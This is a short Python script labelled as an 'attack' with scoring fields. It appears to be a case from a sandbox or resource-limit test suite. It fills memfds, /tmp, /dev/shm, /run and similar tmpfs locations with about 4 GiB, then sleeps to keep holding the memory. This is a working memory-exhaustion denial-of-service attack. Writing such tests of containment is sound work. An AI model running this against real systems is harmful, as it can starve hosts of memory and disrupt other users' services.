# attack: Fills tmpfs, /dev/shm and memfds with 4 GiB.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

import os
import time

held = 0
block = b"x" * (8 << 20)
for i in range(128):
    fds = [os.memfd_create(str(i))]
    for folder in ("/tmp", "/dev/shm", "/dev", "/run", "/lab"):
        try:
            fds.append(os.open(f"{folder}/{i}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass
    for fd in fds:
        try:
            held += os.write(fd, block)
        except OSError:
            pass
print("HELD" if held > 1 << 30 else "refused", held >> 20, "MiB", flush=True)
time.sleep(600)
